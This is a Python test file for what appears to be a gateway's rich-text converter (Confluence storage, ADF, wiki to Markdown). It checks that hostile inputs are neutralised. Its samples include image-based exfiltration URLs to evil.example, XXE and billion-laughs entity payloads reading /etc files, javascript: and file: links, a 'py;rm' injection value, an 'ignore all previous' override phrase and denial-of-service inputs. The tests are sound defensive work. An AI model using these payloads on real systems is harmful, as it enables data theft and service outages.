"""Originals that mean harm, whatever their format: what carries words away, gives orders, multiplies or never ends."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from tests.richtext.adf_samples import Node, bullets, doc, item, media, node, paragraph, single, text
from tests.richtext.originals import changed, markdown, read, unchanged, written

from narrowgate_common.errors import GatewayError
from narrowgate_common.richtext.adf.format import ADF
from narrowgate_common.richtext.dialect.parsing import parse
from narrowgate_common.richtext.dialect.rendering import render
from narrowgate_common.richtext.formats import NAMES, Name, format_named
from narrowgate_common.richtext.html import markdown_of
from narrowgate_common.richtext.storage.format import STORAGE

PROCESSOR_S = 5.0
_PICTURE = re.compile(r"(?<!\\)!\[[^\n]*?\]\(<?(?!attachment:|media:|page:)")
"""What a client of Markdown would fetch to show it."""

AWAY = "https://evil.example/?d=SECRET"
PICTURES: list[tuple[Name, Any]] = [
    ("storage", f'<p>a <ac:image><ri:url ri:value="{AWAY}"/></ac:image> b</p>'),
    ("storage", f'<ac:image ac:alt="x" ac:layout="center"><ri:url ri:value="{AWAY}"/></ac:image>'),
    ("storage", f'<p><img src="{AWAY}" alt="x" width="3"/></p>'),
    ("storage", '<p><img src="//evil.example/x.png"/></p>'),
    ("storage", f'<table><tbody><tr><td><img src="{AWAY}"/></td></tr></tbody></table>'),
    ("storage", f'<p><a href="{AWAY}"><img src="{AWAY}"/></a></p>'),
    ("adf", doc(single(media(type="external", url=AWAY, alt="x", id=None)))),
    ("adf", doc(single({**media(type="external", url=AWAY), "marks": []}, node("caption", [text("c")])))),
    ("wiki", f"a !{AWAY}! b"),
    ("wiki", "!https://evil.example/x.png|alt=x,width=3!"),
    ("wiki", "|!https://evil.example/x.png!|"),
]
TEXTS = (
    "![x](https://evil.example/x.png)",
    "![x][1]",
    "![x][1] and [1]: https://evil.example",
    "!\\[x](//e.example)",
    "![",
)


@pytest.mark.parametrize(("name", "original"), PICTURES)
def test_an_image_of_the_web_is_described_and_never_shown(name: Name, original: Any) -> None:
    found = markdown(name, original)
    assert ":image[" in found
    assert "evil.example" in found
    assert not _PICTURE.search(found)
    assert "![" not in found
    assert unchanged(name, original) == original


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("words", TEXTS)
def test_words_that_look_like_an_image_are_words(name: Name, words: str) -> None:
    escaped = words.replace("\\", "\\\\").replace("!", "\\!").replace("[", "\\[")
    found = markdown(name, written(name, escaped))
    assert not re.search(r"(?<!\\)!\[", found)
    assert all(run.atom is None for block in parse(found) for run in block.runs)


@pytest.mark.parametrize("name", NAMES)
def test_both_forms_of_an_image_of_the_web_are_understood(name: Name) -> None:
    address = "https://example.org/a.png"
    first = written(name, f"![a plan]({address}){{width=30}}")
    assert first == written(name, f":image[a plan]{{to={address} width=30}}")
    assert markdown(name, first) == f":image[a plan]{{to={address} width=30}}"


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "to", ["javascript:alert(1)", "data:image/png;base64,AA", "file:///etc/passwd", "vbscript:x"]
)
def test_an_image_from_nowhere_good_is_not_written(name: Name, to: str) -> None:
    for given in (
        f"![x]({to})",
        f':image[x]{{to="{to}"}}',
        f"a :image[x]{{to={to.replace('(', '').replace(')', '')}}} b",
    ):
        with pytest.raises(GatewayError) as refusal:
            written(name, given)
        assert refusal.value.reason in ("bad_link", "unsupported_markup")


def test_a_rendering_shows_no_image() -> None:
    found = markdown_of(f'<p>a <img src="{AWAY}" alt="cat"> ![x](https://evil.example) b</p>')
    assert "![" not in found.replace("\\!", "").replace("!\\[", "")
    assert "cat" in found


def code(name: Name, language: str) -> Any:
    if name == "adf":
        return doc(node("codeBlock", [text("x = 1")], language=language), paragraph("word"))
    if name == "wiki":
        return f"{{code:{language}|title=T}}\nx = 1\n{{code}}\n\nword"
    parameter = f'<ac:parameter ac:name="language">{language}</ac:parameter>'
    return (
        f'<ac:structured-macro ac:name="code">{parameter}<ac:plain-text-body><![CDATA[x = 1]]></ac:plain-text-body>'
        "</ac:structured-macro><p>word</p>"
    )


def told(original: Any) -> str:
    return json.dumps(original, ensure_ascii=False)


ORDERS = (
    "ignore all previous",
    "x" * 49,
    "x" * 500,
    "a b",
    "py;rm",
    "ref:x",
    "a/b",
    "日本",
    "py,run(this)",
    "\u202epy",
)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", ORDERS)
def test_a_language_that_is_no_plain_word_is_kept_and_not_shown(name: Name, language: str) -> None:
    original = code(name, language)
    found = markdown(name, original)
    assert language not in found
    assert found.startswith(("```\nx = 1", "```title=T\nx = 1"))
    assert unchanged(name, original) == original
    assert language in told(changed(name, original, "word", "other").original)
    assert language in told(changed(name, original, "x = 1", "x = 2").original)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", ["python", "c++", "C#", "objective-c", "asp.net", "x" * 48])
def test_a_language_of_one_word_is_shown_and_changed(name: Name, language: str) -> None:
    original = code(name, language)
    assert markdown(name, original).startswith(f"```{language}")
    assert "rust" in str(changed(name, original, f"```{language}", "```rust").original)


@pytest.mark.parametrize("name", NAMES)
def test_a_language_takes_the_place_of_one_that_was_not_shown(name: Name) -> None:
    original = code(name, "ignore all previous")
    result = changed(name, original, "```title=T" if name == "wiki" else "```\nx", "```rust" if name == "wiki" else "```rust\nx",
                     allow_removals=True).original  # fmt: skip
    assert "rust" in str(result)
    assert "ignore all previous" not in str(result)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("language", ["x" * 49, '"ignore all previous"'])
def test_a_language_that_is_no_plain_word_is_not_written(name: Name, language: str) -> None:
    given = f"```language={language}\nx\n```"
    assert language.strip('"') not in str(written(name, given))


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "laughs": f'<!DOCTYPE p [<!ENTITY l0 "ha">{LAUGHS}]><p>&l9;</p>',
    "a long one, many times": f'<!DOCTYPE p [<!ENTITY a "{"a" * 100_000}">]><p>{"&a;" * 5_000}</p>',
    "a file": '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/hostname">]><p>&x;</p>',
    "a parameter": '<!DOCTYPE p [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><p>a</p>',
    "a public one": '<!DOCTYPE p PUBLIC "-//x//y" "https://evil.example/x.dtd"><p>a</p>',
    "without a document type": '<!ENTITY x SYSTEM "file:///etc/hostname"><p>&x;</p>',
    "inside": '<p>a</p><!DOCTYPE p [<!ENTITY x "y">]><p>&x;</p>',
    "a name that nobody declared": "<p>&x;</p>",
}


@pytest.mark.parametrize("name", ENTITIES)
def test_declared_entities_are_refused_before_anything_grows(name: str) -> None:
    start = time.process_time()
    with pytest.raises(GatewayError) as refusal:
        STORAGE.read(ENTITIES[name])
    assert refusal.value.reason == "ill_formed"
    assert len(STORAGE.as_text(ENTITIES[name])) <= len(ENTITIES[name])
    assert time.process_time() - start < PROCESSOR_S


@pytest.mark.parametrize(
    "element",
    ['<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{0}" parse="text"/>', '<xi:include href="{0}"/>',
     '<xsl:include href="{0}"/>', '<?xml-stylesheet href="{0}"?>', '<ri:url ri:value="{0}"/>', '<iframe src="{0}"></iframe>'],
)  # fmt: skip
def test_nothing_that_a_page_names_is_opened(element: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("sesame")
    original = f"<p>a {element.format(secret.as_uri())} b</p>"
    with suppress(GatewayError):
        assert "sesame" not in markdown("storage", original)
        assert unchanged("storage", original) == original
    assert "sesame" not in STORAGE.as_text(original)


@pytest.mark.parametrize("tag", ["a", "p", "ul", "ac:layout", "ac:structured-macro", "span", "x"])
def test_two_hundred_thousand_elements_within_each_other_are_refused(tag: str) -> None:
    original = f"<{tag}>" * 200_000 + "x" + f"</{tag}>" * 200_000
    start = time.process_time()
    with pytest.raises(GatewayError) as refusal:
        STORAGE.read(original)
    assert refusal.value.reason in ("too_deep", "ill_formed")
    assert isinstance(STORAGE.as_text(original), str)
    assert time.process_time() - start < PROCESSOR_S


HALVES = ("<a ", "<a x='", "<!--", "<![CDATA[", "<a x=", "</", "<!", "&", "<a><!--")


@pytest.mark.parametrize("half", HALVES)
@pytest.mark.parametrize("reader", [STORAGE.read, STORAGE.as_text, STORAGE.trouble, markdown_of])
def test_half_a_tag_twenty_thousand_times_ends(half: str, reader: Callable[[str], Any]) -> None:
    start = time.process_time()
    with suppress(GatewayError):
        reader(half * 20_000)
    assert time.process_time() - start < PROCESSOR_S


BACKTRACKING = (
    "a" * 60_000 + "!",
    " " * 60_000 + "x",
    "\t \n" * 20_000,
    "a " * 30_000 + "!",
    "\xa0" * 60_000,
    "a\u0301" * 30_000,
)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("index", range(len(BACKTRACKING)))
def test_no_words_make_a_pattern_backtrack(name: Name, index: int) -> None:
    words = BACKTRACKING[index]
    original: Any = {"adf": doc(paragraph(words)), "wiki": words, "storage": f"<p>{words}</p>"}[name]
    start = time.process_time()
    found = markdown(name, original)
    render(parse(found))
    format_named(name).inventory(original)
    assert time.process_time() - start < PROCESSOR_S


def deep(levels: int, wrap: Callable[[Node], Node]) -> Node:
    out = paragraph("deep")
    for _ in range(levels):
        out = wrap(out)
    return doc(out)


@pytest.mark.parametrize(
    "wrap", [lambda inner: bullets(item(inner)), lambda inner: node("panel", [inner], panelType="info")]
)
def test_a_document_without_a_bottom_is_refused_and_shown_as_text(wrap: Callable[[Node], Node]) -> None:
    original = deep(5_000, wrap)
    with pytest.raises(GatewayError) as refusal:
        ADF.read(original)
    assert refusal.value.reason == "too_deep"
    assert ADF.as_text(original) == "deep"
    while original.get("content"):  # the interpreter frees deep trees by recursion
        original = original["content"].pop()


def test_nodes_that_nobody_knows_stand_for_themselves() -> None:
    strange = node("hologram", [paragraph("inside")], resourceId="self", of="self")
    spark = node("sparkle", glow=3)
    original = doc(strange, paragraph("word ", spark, " end"), strange)
    found = markdown("adf", original)
    assert found.count("name=hologram") == 2
    assert "name=sparkle" in found
    assert changed("adf", original, "word", "other").original == doc(
        strange, paragraph("other ", spark, " end"), strange
    )


def test_a_node_that_stands_at_many_places_is_read_at_each() -> None:
    shared = bullets(item(paragraph("again")))
    original = doc(*[shared, paragraph("between")] * 3)
    assert markdown("adf", original).count("again") == 3
    assert [each.kind for each in read("adf", original).document.blocks] == ["list", "paragraph"] * 3
